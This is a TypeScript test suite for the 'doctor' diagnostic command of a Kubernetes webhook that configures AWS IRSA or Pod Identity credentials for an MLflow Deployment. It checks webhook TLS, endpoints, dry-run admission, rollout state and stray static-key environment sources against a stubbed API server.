// Specification of `doctor`: every check both ways (and its warning where it has one) against the API stub, whose
// admission calls the real webhook server, and a real PostgreSQL; skips that follow failed prerequisites; the JSON
// shape; and the CLI's exit codes.
import t, { type Test } from 'tap';
import { execFile } from 'node:child_process';
import { readdirSync, readFileSync, writeFileSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { Writable } from 'node:stream';
import { Ajv } from 'ajv';
import pg from 'pg';
import { loadConfig, parseConfig, type Config } from '../src/config/config.js';
import { buildServer } from '../src/webhook/server.js';
import { createLogger } from '../src/log.js';
import { createMetrics } from '../src/webhook/metrics.js';
import { createCa, createServingCert, type KeyPair } from '../src/webhook/tls.js';
import { kubeClient } from '../src/k8s/client.js';
import { serviceDnsNames } from '../src/k8s/bootstrap-cert.js';
import { buildMutators } from '../src/mutators/index.js';
import { serviceAccountPlan } from '../src/mutators/service-account.js';
import { PREVIOUS_DESTINATION_ANNOTATION } from '../src/mutators/deployment.js';
import { installTrigger, readInstalled } from '../src/db/install.js';
import { expectedFingerprints, fingerprint } from '../src/db/fingerprint.js';
import { CHECKS, checkDocs, runChecks, type CheckResult, type DoctorFacts } from '../src/doctor/checks.js';
import { anchors } from './helpers/markdown.js';
import { LIST_LIMITS, listPaged, readFacts, type ReadOptions } from '../src/doctor/read.js';
import { outputSchema, renderJson, renderText } from '../src/doctor/command.js';
import { k8sFixture, startK8sStub, type K8sStub, type RbacRule } from './helpers/k8s-stub.js';
import { render } from './helpers/chart.js';
import { exampleConfig, root } from './helpers/fixtures.js';
import { startPostgres, type TestPostgres } from './helpers/pg.js';

const run = promisify(execFile);
const config = loadConfig(exampleConfig);
const NS = 'mlflow-irsa-webhook';
const SVC = 'mlflow-irsa-webhook';
const HOST = `${SVC}.${NS}.svc`;
const ISSUER = 'https://oidc.eks.us-west-2.amazonaws.com/id/EXAMPLED539D4633E53DE1B71EXAMPLE';

const P = {
  mwc: '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/mlflow-irsa-webhook',
  service: `/api/v1/namespaces/${NS}/services/${SVC}`,
  slice: `/apis/discovery.k8s.io/v1/namespaces/${NS}/endpointslices/mlflow-irsa-webhook-8xq2m`,
  secret: `/api/v1/namespaces/${NS}/secrets/${SVC}-tls`,
  lease: `/apis/coordination.k8s.io/v1/namespaces/${NS}/leases/mlflow-irsa-webhook-reconcile`,
  dep: '/apis/apps/v1/namespaces/domino-platform/deployments/mlflow',
  sa: '/api/v1/namespaces/domino-platform/serviceaccounts/mlflow',
  rs: (name: string) => `/apis/apps/v1/namespaces/domino-platform/replicasets/${name}`,
  pod: (name: string) => `/api/v1/namespaces/domino-platform/pods/${name}`,
  agent: '/apis/apps/v1/namespaces/kube-system/daemonsets/eks-pod-identity-agent',
};

/** The example config with credentials from an EKS Pod Identity association. */
const podIdentity = parseConfig({ ...JSON.parse(JSON.stringify(config)), credentials: 'pod-identity' });

const quiet = () => createLogger('silent', new Writable({ write: (_c, _e, cb) => cb() }));
const b64 = (s: string) => Buffer.from(s).toString('base64');
const micro = (ms: number) => new Date(ms).toISOString().replace('Z', '000Z');

interface World {
  stub: K8sStub;
  ca: KeyPair;
  pair: KeyPair;
  /** the port the real webhook server listens on (what the Service would reach) */
  port: number;
  /** the leader renews the Lease now (a slow machine must not make the seeded renewal look stale) */
  renewLease(): void;
  /** runs doctor's reads and checks in-process; the Lease is renewed first unless keepLease */
  doctor(over?: Partial<ReadOptions> & { config?: Config; now?: number; keepLease?: boolean }): Promise<{ byId: Record<string, CheckResult>; results: CheckResult[]; facts: DoctorFacts }>;
}

/**
 * A fully working installation: every check passes. Tests break one thing each. With a pod-identity config, the
 * installation as it stands after the move from IRSA: the Deployment restarted without IRSA, its new pod as EKS's
 * webhook admitted it for the association, the ServiceAccount without a role, the agent add-on ready.
 */
async function world(t: Test, opts: { certDays?: number; certNames?: string[]; config?: Config } = {}): Promise<World> {
  const worldConfig = opts.config ?? config;
  const pi = worldConfig.credentials === 'pod-identity';
  const stub = await startK8sStub();
  t.teardown(() => stub.close());
  const ca = await createCa('mlflow-irsa-webhook-ca', 3650);
  const pair = await createServingCert(opts.certNames ?? [...serviceDnsNames(SVC, NS), 'localhost'], opts.certDays ?? 365, ca);
  const hook = buildServer({ config: worldConfig, tls: pair, logger: quiet(), metrics: createMetrics(false) });
  await hook.app.listen({ port: 0, host: '127.0.0.1' });
  t.teardown(() => hook.app.close());
  const port = (hook.app.server.address() as { port: number }).port;
  stub.admission = { url: `https://localhost:${port}/mutate`, ca: ca.cert };
  // the API server's service proxy reaches the webhook's pods as its admission calls do
  stub.services = new Map([[`${NS}/${SVC}`, `https://localhost:${port}`]]);
  stub.issuer = ISSUER;
  const mwc = k8sFixture('mutatingwebhookconfiguration');
  for (const w of mwc.webhooks) w.clientConfig.caBundle = b64(ca.cert);
  stub.seed(P.mwc, mwc);
  stub.seed(P.service, k8sFixture('service-webhook'));
  stub.seed(P.slice, k8sFixture('endpointslice-webhook'));
  stub.seed(P.secret, { apiVersion: 'v1', kind: 'Secret', type: 'kubernetes.io/tls', metadata: { name: `${SVC}-tls`, namespace: NS }, data: { 'tls.crt': b64(pair.cert), 'tls.key': b64(pair.key), 'ca.crt': b64(ca.cert) } });
  const lease = k8sFixture('lease');
  stub.seed(P.lease, { ...lease, spec: { ...lease.spec, holderIdentity: 'mlflow-irsa-webhook-6d9f7c5b8-h2k4m', renewTime: micro(Date.now() - 3000), acquireTime: micro(Date.now() - 600_000) } });
  stub.seed(P.dep, k8sFixture(pi ? 'deployment-mlflow-pod-identity' : 'deployment-mlflow-mutated'));
  stub.seed(P.sa, pi ? k8sFixture('serviceaccount-mlflow') : annotatedServiceAccount());
  for (const name of ['replicaset-mlflow', 'replicaset-mlflow-mutated', ...(pi ? ['replicaset-mlflow-pod-identity'] : [])]) stub.seed(P.rs(k8sFixture(name).metadata.name), k8sFixture(name));
  const pod = k8sFixture(pi ? 'pod-mlflow-pod-identity' : 'pod-mlflow-mutated');
  stub.seed(P.pod(pod.metadata.name), pod);
  stub.seed(P.agent, k8sFixture('daemonset-eks-pod-identity-agent'));
  const kube = await kubeClient(stub.kubeconfig);
  const renewLease = () => {
    const l = stub.object(P.lease);
    if (l) stub.seed(P.lease, { ...l, spec: { ...l.spec, renewTime: micro(Date.now()) } });
  };
  return {
    stub, ca, pair, port, renewLease,
    async doctor(over = {}) {
      if (!over.keepLease) renewLease();
      const cfg = over.config ?? worldConfig;
      const { facts } = await readFacts({
        config: cfg, kube, logger: quiet(), webhookConfig: SVC, webhookNamespace: NS, tlsSecret: `${SVC}-tls`,
        resolveService: (host, p) => (host === HOST && p === 443 ? { host: '127.0.0.1', port } : { host, port: p }),
        ...over,
      });
      const results = runChecks(facts, { config: cfg, mutators: buildMutators(cfg), now: over.now ?? Date.now(), configFile: 'config.yaml', webhookConfig: SVC, webhookNamespace: NS, tlsSecret: `${SVC}-tls` });
      return { results, facts, byId: Object.fromEntries(results.map((r) => [r.id, r])) };
    },
  };
}

function annotatedServiceAccount() {
  const sa = k8sFixture('serviceaccount-mlflow');
  return { ...sa, metadata: { ...sa.metadata, annotations: { ...sa.metadata.annotations, ...serviceAccountPlan(config).annotations } } };
}

/** The checks a working installation passes without a database or a trust policy (irsa needs no Pod Identity agent). */
const kubernetesChecks = (results: CheckResult[], cfg: Config = config) =>
  results.filter((x) => !x.id.startsWith('trigger.') && x.id !== 'iam.trust-policy' && !(cfg.credentials === 'irsa' && x.id === 'pod-identity.agent'));

/** Asserts one check's status and message (and that a warn or fail carries a fix). */
function expectCheck(t: Test, r: CheckResult | undefined, status: string, message: RegExp, fix?: RegExp): void {
  t.ok(r, 'the check ran');
  if (!r) return;
  t.equal(r.status, status, `${r.id}: ${r.message}`);
  t.match(r.message, message, `${r.id}: message`);
  if (status === 'warn' || status === 'fail') t.ok(r.fix && r.fix.length > 0, `${r.id}: a fix`);
  if (fix) t.match(r.fix ?? '', fix, `${r.id}: fix`);
}

// ---------------------------------------------------------------------------------------------------------------

t.test('the check list: stable ids in dependency order, each needing only earlier checks', async (t) => {
  t.same(CHECKS.map((c) => c.id), [
    'kubernetes.api', 'webhook.configuration', 'webhook.ca-bundle', 'webhook.certificate', 'webhook.endpoints', 'admission.dry-run',
    'deployment.template', 'deployment.rollout', 'deployment.credentials', 'deployment.arguments', 'pods.current', 'pods.old-replicasets', 'pods.credentials',
    'serviceaccount.annotation', 'pod-identity.agent',
    'trigger.connection', 'trigger.installed', 'trigger.function', 'trigger.deferred', 'trigger.location-policy', 'trigger.legacy', 'trigger.drift',
    'migration.artifacts', 'iam.trust-policy', 'reconcile.lease',
  ]);
  const seen = new Set<string>();
  for (const c of CHECKS) {
    for (const need of c.needs ?? []) t.ok(seen.has(need), `${c.id} needs ${need}, which runs before it`);
    seen.add(c.id);
  }
  // every check's docs link names a heading of docs/troubleshooting.md, as GitHub anchors it
  const page = readFileSync(join(root, 'docs/troubleshooting.md'), 'utf8');
  const headings = anchors(page);
  for (const c of CHECKS) {
    const link = checkDocs(c.id);
    t.ok(link.startsWith('https://github.com/mlflow-irsa-webhook/mlflow-irsa-webhook/blob/main/docs/troubleshooting.md#'), `${c.id}: the published page`);
    t.ok(headings.has(link.split('#')[1]), `${c.id}: its link ${link} resolves to a heading of docs/troubleshooting.md`);
  }
  t.notOk(headings.has(checkDocs('made.up').split('#')[1]), 'and a check without a section would be caught');
});

t.test('a working installation: every Kubernetes check passes, the dry run stores nothing, the served certificate is the one checked', async (t) => {
  const w = await world(t);
  const before = w.stub.object(P.dep).metadata.resourceVersion;
  const { results, byId } = await w.doctor();
  for (const r of kubernetesChecks(results)) t.equal(r.status, 'pass', `${r.id}: ${r.message}`);
  expectCheck(t, byId['pod-identity.agent'], 'skip', /credentials irsa: no Pod Identity agent needed/);
  expectCheck(t, byId['pods.credentials'], 'pass', /1 pod of ReplicaSet mlflow-5b8f9c7d6e carry no Pod Identity credentials beside web identity: botocore uses IRSA/);
  t.notOk(w.stub.requests.some((q) => q.path.includes('daemonsets')), 'irsa: the agent is not read');
  expectCheck(t, byId['kubernetes.api'], 'pass', /v1\.31\.4/);
  expectCheck(t, byId['webhook.configuration'], 'pass', /sends deployments and serviceaccounts in domino-platform to mlflow-irsa-webhook\/mlflow-irsa-webhook:443\/mutate \(failurePolicy Ignore\)/);
  expectCheck(t, byId['webhook.ca-bundle'], 'pass', /caBundle \(mlflow-irsa-webhook-ca\) verifies the certificate served at mlflow-irsa-webhook\.mlflow-irsa-webhook\.svc:443/);
  expectCheck(t, byId['webhook.certificate'], 'pass', /names mlflow-irsa-webhook\.mlflow-irsa-webhook\.svc and expires in 36[45] days/);
  expectCheck(t, byId['webhook.endpoints'], 'pass', /2 ready endpoints/);
  expectCheck(t, byId['admission.dry-run'], 'pass', /comes back mutated/);
  expectCheck(t, byId['deployment.template'], 'pass', /carries the token volume/);
  expectCheck(t, byId['deployment.rollout'], 'pass', /rollout complete/);
  expectCheck(t, byId['pods.current'], 'pass', /1 pod of ReplicaSet mlflow-5b8f9c7d6e carry the token volume, one mount on \/var\/run\/secrets\/eks\.amazonaws\.com\/serviceaccount/);
  expectCheck(t, byId['pods.old-replicasets'], 'pass', /no pods of older ReplicaSets/);
  expectCheck(t, byId['serviceaccount.annotation'], 'pass', /annotated with arn:aws:iam::111122223333:role\/sw-mlflow-full-access and regional STS/);
  expectCheck(t, byId['reconcile.lease'], 'pass', /held by mlflow-irsa-webhook-6d9f7c5b8-h2k4m, renewed \d+ s ago/);
  expectCheck(t, byId['trigger.connection'], 'skip', /no database given/);
  expectCheck(t, byId['trigger.installed'], 'skip', /skipped: needs trigger\.connection, which was skipped/);
  expectCheck(t, byId['trigger.function'], 'skip', /skipped: needs trigger\.installed; trigger\.connection was skipped/);
  expectCheck(t, byId['iam.trust-policy'], 'skip', /no --trust-policy given/);

  // the dry run: a JSON patch removing one env entry the webhook owns, with dryRun=All; stored nowhere
  const dry = w.stub.requests.filter((q) => q.method === 'PATCH');
  t.equal(dry.length, 1, 'one patch request, and no other write');
  t.equal(dry[0].path, `${P.dep}?dryRun=All`);
  t.equal(dry[0].contentType, 'application/json-patch+json');
  t.match(dry[0].body, [{ op: 'test', value: 'AWS_ROLE_ARN' }, { op: 'remove', path: /^\/spec\/template\/spec\/containers\/0\/env\/\d+$/ }]);
  t.equal(w.stub.object(P.dep).metadata.resourceVersion, before, 'the Deployment is unchanged');
  t.same(w.stub.requests.filter((q) => !['GET', 'PATCH'].includes(q.method)), [], 'doctor only reads');
  t.notOk(w.stub.requests.some((q) => q.path === P.secret), 'the Secret is not read when the certificate is served');
});

t.test('kubernetes.api: an API server that is down fails it, and every Kubernetes check is skipped naming it', async (t) => {
  const w = await world(t);
  await w.stub.pause();
  const { byId, results } = await w.doctor();
  expectCheck(t, byId['kubernetes.api'], 'fail', /cannot reach the Kubernetes API/, /kubectl cluster-info/);
  for (const id of ['webhook.configuration', 'deployment.template', 'serviceaccount.annotation', 'reconcile.lease']) {
    expectCheck(t, byId[id], 'skip', /skipped: needs kubernetes\.api, which failed/);
  }
  expectCheck(t, byId['admission.dry-run'], 'skip', /skipped: needs webhook\.ca-bundle; kubernetes\.api failed/);
  expectCheck(t, byId['pods.current'], 'skip', /kubernetes\.api failed/);
  t.equal(results.filter((r) => r.status === 'fail').length, 1, 'one cause, one failure');
  await w.stub.resume();

  // no usable kubeconfig at all
  const none = await w.doctor({ kube: undefined, kubeError: 'no usable kubeconfig: ENOENT' });
  expectCheck(t, none.byId['kubernetes.api'], 'fail', /no usable kubeconfig: ENOENT/);

  // an API server that never answers: each read gives up, so doctor cannot hang
  w.stub.hang = () => true;
  const { facts, timedOut } = await readFacts({ config, kube: await kubeClient(w.stub.kubeconfig), logger: quiet(), webhookConfig: SVC, webhookNamespace: NS, tlsSecret: `${SVC}-tls`, timeoutMs: 300 });
  t.equal(timedOut, true);
  t.match(facts.api, { ok: false, error: /get \/version: no answer within 0\.3 s/ });
  w.stub.hang = undefined;
});

t.test('webhook.configuration: missing, unreadable, or not selecting the namespace', async (t) => {
  const w = await world(t);
  const mwc = w.stub.object(P.mwc);
  mwc.webhooks[0].namespaceSelector.matchExpressions[0].values = ['other'];
  w.stub.seed(P.mwc, mwc);
  expectCheck(t, (await w.doctor()).byId['webhook.configuration'], 'fail', /the deployments webhook's namespaceSelector leaves out namespace domino-platform/,
    /^helm -n mlflow-irsa-webhook upgrade mlflow-irsa-webhook charts\/mlflow-irsa-webhook --reuse-values$/);

  w.stub.failNext('GET', P.mwc, 'status-forbidden');
  expectCheck(t, (await w.doctor()).byId['webhook.configuration'], 'fail', /may not read MutatingWebhookConfiguration mlflow-irsa-webhook: .*403 Forbidden/,
    /^kubectl auth can-i get mutatingwebhookconfiguration\/mlflow-irsa-webhook$/);

  const urlOnly = w.stub.object(P.mwc);
  urlOnly.webhooks = [{ ...urlOnly.webhooks[0], clientConfig: { url: 'https://10.0.0.1/mutate', caBundle: urlOnly.webhooks[0].clientConfig.caBundle } }];
  w.stub.seed(P.mwc, urlOnly);
  expectCheck(t, (await w.doctor()).byId['webhook.configuration'], 'fail', /the deployments webhook calls a URL, not the Service mlflow-irsa-webhook\/mlflow-irsa-webhook; .*no webhook for serviceaccounts$/);

  w.stub.seed(P.mwc, undefined);
  const { byId } = await w.doctor();
  expectCheck(t, byId['webhook.configuration'], 'fail', /MutatingWebhookConfiguration mlflow-irsa-webhook not found: the API server calls no webhook for mlflow/, /helm -n mlflow-irsa-webhook upgrade/);
  for (const id of ['webhook.ca-bundle', 'webhook.certificate', 'webhook.endpoints']) expectCheck(t, byId[id], 'skip', /skipped: needs webhook\.configuration, which failed/);
  expectCheck(t, byId['admission.dry-run'], 'skip', /webhook\.configuration failed/);
  expectCheck(t, byId['deployment.template'], 'pass', /carries/, undefined);
});

t.test('webhook.ca-bundle: verified against the Secret when the Service cannot be reached; a wrong or missing caBundle fails; no certificate at all warns', async (t) => {
  const w = await world(t);
  const unreachable = { resolveService: () => ({ host: '127.0.0.1', port: 1 }) };
  let r = await w.doctor(unreachable);
  expectCheck(t, r.byId['webhook.ca-bundle'], 'pass', /verifies the certificate served at mlflow-irsa-webhook\.mlflow-irsa-webhook\.svc:443 \(read through the API server's service proxy\)/,
    undefined);
  t.notOk(w.stub.requests.some((q) => q.path === P.secret), 'read through the API server, where the Service is out of reach: no Secret read');
  // the service proxy finds no endpoints (an older webhook, or none ready) and the Service's address does not answer
  w.stub.services = undefined;
  r = await w.doctor(unreachable);
  expectCheck(t, r.byId['webhook.ca-bundle'], 'pass', /verifies the certificate in Secret mlflow-irsa-webhook\/mlflow-irsa-webhook-tls/);
  t.ok(w.stub.requests.some((q) => q.method === 'GET' && q.path === P.secret), 'the Secret is the fallback');

  w.stub.failNext('GET', P.secret, 'status-forbidden');
  r = await w.doctor(unreachable);
  expectCheck(t, r.byId['webhook.ca-bundle'], 'warn', /could not get the serving certificate .*not served at mlflow-irsa-webhook\.mlflow-irsa-webhook\.svc:443 \(through the API server's service proxy: .*503 ServiceUnavailable: no endpoints available for service "https:mlflow-irsa-webhook:443"; directly: .*\), and Secret mlflow-irsa-webhook\/mlflow-irsa-webhook-tls could not be read \(.*403 Forbidden/, /openssl verify/);
  w.stub.failNext('GET', P.secret, 'status-forbidden');
  expectCheck(t, (await w.doctor(unreachable)).byId['webhook.certificate'], 'warn', /could not get the serving certificate/, /openssl x509/);

  // a caBundle from another CA (the certificate was re-issued, the caBundle not patched)
  const other = await createCa('some-other-ca', 10);
  const mwc = w.stub.object(P.mwc);
  for (const h of mwc.webhooks) h.clientConfig.caBundle = b64(other.cert);
  w.stub.seed(P.mwc, mwc);
  r = await w.doctor();
  expectCheck(t, r.byId['webhook.ca-bundle'], 'fail', /the caBundle \(some-other-ca\) does not verify the certificate served at .* \(issued by CN=mlflow-irsa-webhook-ca\): the API server's calls fail TLS/, /helm -n mlflow-irsa-webhook upgrade/);
  expectCheck(t, r.byId['admission.dry-run'], 'skip', /needs webhook\.ca-bundle, which failed/);

  for (const [bundle, problem] of [['not a certificate', /the caBundle holds no PEM certificate/], ['-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----', /the caBundle is not a PEM certificate/]] as const) {
    for (const h of mwc.webhooks) h.clientConfig.caBundle = b64(bundle);
    w.stub.seed(P.mwc, mwc);
    expectCheck(t, (await w.doctor()).byId['webhook.ca-bundle'], 'fail', problem);
  }
  delete mwc.webhooks[1].clientConfig.caBundle;
  w.stub.seed(P.mwc, mwc);
  expectCheck(t, (await w.doctor()).byId['webhook.ca-bundle'], 'fail', /a webhook has no caBundle/);
});

t.test('webhook.certificate: expiring soon warns; expired or not naming the Service fails', async (t) => {
  const soon = await world(t, { certDays: 10 });
  const r = await soon.doctor();
  expectCheck(t, r.byId['webhook.certificate'], 'warn', /expires in (9|10) days/, /helm -n mlflow-irsa-webhook upgrade/);
  expectCheck(t, r.byId['admission.dry-run'], 'pass', /comes back mutated/, undefined);
  // the same certificate, judged 20 days later (the checks are pure: the clock is an input)
  const later = runChecks(r.facts, { config, mutators: buildMutators(config), now: Date.now() + 20 * 86_400_000, configFile: 'config.yaml', webhookConfig: SVC, webhookNamespace: NS, tlsSecret: `${SVC}-tls` });
  expectCheck(t, later.find((x) => x.id === 'webhook.certificate'), 'fail', /expired on/);
  t.equal(later.find((x) => x.id === 'admission.dry-run')?.status, 'skip');

  const wrongName = await world(t, { certNames: ['localhost', 'mlflow-irsa-webhook.default.svc'] });
  expectCheck(t, (await wrongName.doctor()).byId['webhook.certificate'], 'fail', /does not name mlflow-irsa-webhook\.mlflow-irsa-webhook\.svc, the name the API server calls \(it names DNS:localhost, DNS:mlflow-irsa-webhook\.default\.svc\)/);
});

t.test('webhook.endpoints: some not ready warns; none ready or no Service fails', async (t) => {
  const w = await world(t);
  const slice = w.stub.object(P.slice);
  slice.endpoints[1].conditions.ready = false;
  w.stub.seed(P.slice, slice);
  expectCheck(t, (await w.doctor()).byId['webhook.endpoints'], 'warn', /1 of 2 endpoints ready/, /kubectl -n mlflow-irsa-webhook get pods -l app.kubernetes.io\/component=webhook/);
  slice.endpoints[0].conditions.ready = false;
  w.stub.seed(P.slice, slice);
  const r = await w.doctor();
  expectCheck(t, r.byId['webhook.endpoints'], 'fail', /has no ready endpoints \(2 endpoints in all\): no webhook pod answers/);
  expectCheck(t, r.byId['admission.dry-run'], 'skip', /needs webhook\.endpoints, which failed/);
  w.stub.failNext('GET', `/apis/discovery.k8s.io/v1/namespaces/${NS}/endpointslices?labelSelector=kubernetes.io%2Fservice-name%3D${SVC}`, 'status-forbidden');
  expectCheck(t, (await w.doctor()).byId['webhook.endpoints'], 'fail', /could not list the EndpointSlices of Service mlflow-irsa-webhook\/mlflow-irsa-webhook: .*403/, /kubectl auth can-i list endpointslices\.discovery\.k8s\.io -n mlflow-irsa-webhook/);
  w.stub.seed(P.service, undefined);
  expectCheck(t, (await w.doctor()).byId['webhook.endpoints'], 'fail', /Service mlflow-irsa-webhook\/mlflow-irsa-webhook not found/);
});

t.test('admission.dry-run: mutated through the webhook for an unmutated Deployment too; fails when the API server does not call it', async (t) => {
  const w = await world(t);
  w.stub.seed(P.dep, k8sFixture('deployment-mlflow'));
  let r = await w.doctor();
  expectCheck(t, r.byId['admission.dry-run'], 'pass', /comes back mutated: the API server calls the webhook/);
  t.same(w.stub.requests.find((q) => q.method === 'PATCH')?.body, [], 'nothing to remove: an empty JSON patch is the no-op update');
  const admission = w.stub.admission;
  w.stub.admission = undefined; // failurePolicy Ignore and a webhook the API server cannot reach
  r = await w.doctor();
  expectCheck(t, r.byId['admission.dry-run'], 'fail', /was admitted without the mutation: the API server does not reach the webhook/,
    /^kubectl get --raw \/api\/v1\/namespaces\/mlflow-irsa-webhook\/services\/https:mlflow-irsa-webhook:443\/proxy\/readyz$/);
  w.stub.admission = admission;
  // the manual procedure's aws-user-token mount on the token's path: the mutation removes it with a warning, so the
  // Deployment can still be mutated and the dry run is sent
  const procedure = k8sFixture('deployment-mlflow');
  const mlflow = procedure.spec.template.spec.containers.find((x: { name: string }) => x.name === 'mlflow');
  mlflow.volumeMounts = [...(mlflow.volumeMounts ?? []), { name: 'aws-user-token', mountPath: config.token.mountPath }];
  w.stub.seed(P.dep, procedure);
  r = await w.doctor();
  expectCheck(t, r.byId['deployment.template'], 'fail', /lacks the mutation \(.*remove volumeMount aws-user-token/);
  expectCheck(t, r.byId['admission.dry-run'], 'pass', /comes back mutated/);
  w.stub.admission = undefined;
  w.stub.seed(P.dep, k8sFixture('deployment-mlflow-mutated'));
  expectCheck(t, (await w.doctor()).byId['admission.dry-run'], 'fail', /admitted without the mutation/, undefined);
  w.stub.hang = (method) => method === 'PATCH'; // an API server whose admission never answers
  expectCheck(t, (await w.doctor({ timeoutMs: 1000 })).byId['admission.dry-run'], 'fail', /a dry-run update of Deployment domino-platform\/mlflow failed: dry-run patch: no answer within 1 s/, /proxy\/readyz/);
  w.stub.hang = undefined;
  w.stub.failNext('PATCH', `${P.dep}?dryRun=All`, 'status-forbidden');
  expectCheck(t, (await w.doctor()).byId['admission.dry-run'], 'fail', /may not send a dry-run update/, /kubectl auth can-i patch deployment\/mlflow -n domino-platform/);
});

t.test('deployment.template and deployment.rollout', async (t) => {
  const w = await world(t);
  w.stub.seed(P.dep, k8sFixture('deployment-mlflow'));
  let r = await w.doctor();
  expectCheck(t, r.byId['deployment.template'], 'fail', /pod template lacks the mutation \(no volume aws-iam-token, no volumeMount aws-iam-token, changed env MLFLOW_ARTIFACTS_DESTINATION, no env AWS_ROLE_ARN and 5 more\): it rolled out while the webhook was not called/,
    /^kubectl -n domino-platform rollout restart deployment\/mlflow$/);
  expectCheck(t, r.byId['pods.current'], 'skip', /needs deployment\.template, which failed/);
  expectCheck(t, r.byId['deployment.rollout'], 'pass', /rollout complete/);

  const rolling = k8sFixture('deployment-mlflow-mutated');
  rolling.metadata.generation = 9;
  w.stub.seed(P.dep, rolling);
  expectCheck(t, (await w.doctor()).byId['deployment.rollout'], 'warn', /a rollout is in progress \(generation 9 not yet observed/, /kubectl -n domino-platform rollout status deployment\/mlflow/);
  const stuck = k8sFixture('deployment-mlflow-mutated');
  stuck.status.conditions[1] = { type: 'Progressing', status: 'False', reason: 'ProgressDeadlineExceeded', message: 'ReplicaSet "mlflow-5b8f9c7d6e" has timed out progressing.' };
  w.stub.seed(P.dep, stuck);
  expectCheck(t, (await w.doctor()).byId['deployment.rollout'], 'fail', /the rollout is stuck: ReplicaSet "mlflow-5b8f9c7d6e" has timed out progressing/, /kubectl -n domino-platform describe deployment mlflow/);

  r = await w.doctor({ config: parseConfig({ ...JSON.parse(JSON.stringify(config)), container: 'tracking' }) });
  expectCheck(t, r.byId['deployment.template'], 'fail', /container "tracking" not found; not mutated \(its containers: mlflow\); set container: in the config/);
  expectCheck(t, r.byId['admission.dry-run'], 'skip', /cannot be mutated/);

  w.stub.seed(P.dep, undefined);
  r = await w.doctor();
  expectCheck(t, r.byId['deployment.template'], 'fail', /Deployment domino-platform\/mlflow not found/, /kubectl -n domino-platform get deployments/);
  expectCheck(t, r.byId['deployment.rollout'], 'skip', /could not be read/);
  expectCheck(t, r.byId['admission.dry-run'], 'skip', /could not be read/);
});

t.test('deployment.credentials and deployment.arguments: envFrom sources carrying what beats IRSA, MLflow flags that beat the destination', async (t) => {
  const w = await world(t);
  const cm = (name: string, data: Record<string, string>) => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name, namespace: 'domino-platform' }, data });
  const withEnvFrom = (envFrom: unknown[], args?: string[]) => {
    const dep = k8sFixture('deployment-mlflow-mutated');
    const c = dep.spec.template.spec.containers.find((x: any) => x.name === 'mlflow');
    c.envFrom = envFrom;
    if (args) c.args = args;
    w.stub.seed(P.dep, dep);
  };
  let r = await w.doctor();
  expectCheck(t, r.byId['deployment.credentials'], 'pass', /container mlflow takes no env from ConfigMaps or Secrets \(envFrom\)/);
  expectCheck(t, r.byId['deployment.arguments'], 'pass', /leaves the destination to MLFLOW_ARTIFACTS_DESTINATION/);

  // a ConfigMap of Domino's with harmless keys, then one that brings static keys and a profile back
  w.stub.seed('/api/v1/namespaces/domino-platform/configmaps/mlflow-env', cm('mlflow-env', { GUNICORN_CMD_ARGS: '--workers 4', AWS_REGION: 'us-west-2' }));
  withEnvFrom([{ configMapRef: { name: 'mlflow-env' } }]);
  expectCheck(t, (await w.doctor()).byId['deployment.credentials'], 'pass', /the 1 source container mlflow takes env from \(envFrom\) carry none of AWS_ACCESS_KEY_ID/);
  w.stub.seed('/api/v1/namespaces/domino-platform/configmaps/mlflow-env', cm('mlflow-env', { GUNICORN_CMD_ARGS: '--workers 4', AWS_ACCESS_KEY_ID: 'AKIAIOSFODNN7EXAMPLE', AWS_PROFILE: 'blobs' }));
  r = await w.doctor();
  expectCheck(t, r.byId['deployment.credentials'], 'fail', /envFrom\): configMap mlflow-env brings AWS_ACCESS_KEY_ID, AWS_PROFILE \(botocore uses keys from the environment before web identity/,
    /^kubectl -n domino-platform edit configmap mlflow-env$/);
  t.notOk(JSON.stringify(r.results).includes('AKIAIOSFODNN7EXAMPLE'), 'a value never reaches the output');

  // a prefix: MLFLOW_ before AWS_PROFILE is no AWS_PROFILE; AWS_ before PROFILE is
  withEnvFrom([{ prefix: 'MLFLOW_', configMapRef: { name: 'mlflow-env' } }]);
  expectCheck(t, (await w.doctor()).byId['deployment.credentials'], 'pass', /carry none of/);
  w.stub.seed('/api/v1/namespaces/domino-platform/configmaps/mlflow-env', cm('mlflow-env', { PROFILE: 'blobs' }));
  withEnvFrom([{ prefix: 'AWS_', configMapRef: { name: 'mlflow-env' } }]);
  expectCheck(t, (await w.doctor()).byId['deployment.credentials'], 'fail', /configMap mlflow-env brings AWS_PROFILE/);

  // Secrets: key names only; one doctor may not read warns with the command that lists its keys; an optional absent one is fine
  const secretPath = '/api/v1/namespaces/domino-platform/secrets/mlflow-aws';
  w.stub.seed(secretPath, { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'mlflow-aws', namespace: 'domino-platform' }, data: { AWS_SECRET_ACCESS_KEY: b64('MARKER-secret-value'), AWS_ACCESS_KEY_ID: b64('AKIA') } });
  withEnvFrom([{ secretRef: { name: 'mlflow-aws' } }, { secretRef: { name: 'absent', optional: true } }]);
  r = await w.doctor();
  expectCheck(t, r.byId['deployment.credentials'], 'fail', /secret mlflow-aws brings AWS_SECRET_ACCESS_KEY, AWS_ACCESS_KEY_ID/, /kubectl -n domino-platform edit secret mlflow-aws/);
  t.notOk(JSON.stringify(r.results).includes('MARKER-secret-value') || JSON.stringify(r.results).includes(b64('MARKER-secret-value')), 'a Secret\'s value never reaches the output');
  // every read doctor makes but the Secret's
  w.stub.rbac = [{ apiGroups: [''], resources: ['secrets'], verbs: ['get'], resourceNames: ['mlflow-irsa-webhook-tls'] } as RbacRule,
    ...['', 'apps', 'admissionregistration.k8s.io', 'discovery.k8s.io', 'coordination.k8s.io'].map((g) => ({ apiGroups: [g], resources: ['deployments', 'serviceaccounts', 'services', 'endpointslices', 'pods', 'replicasets', 'leases', 'mutatingwebhookconfigurations'], verbs: ['get', 'list', 'patch'] } as RbacRule))];
  r = await w.doctor();
  expectCheck(t, r.byId['deployment.credentials'], 'warn', /could not read the key names of secret mlflow-aws \(.*403.*\), which container mlflow takes env from \(envFrom\)/,
    /kubectl -n domino-platform get secret mlflow-aws -o go-template='\{\{range \$k, \$v := \.data\}\}\{\{\$k\}\}/);
  w.stub.rbac = undefined;
  withEnvFrom([{ secretRef: { name: 'missing' } }]);
  expectCheck(t, (await w.doctor()).byId['deployment.credentials'], 'warn', /could not read the key names of secret missing/);

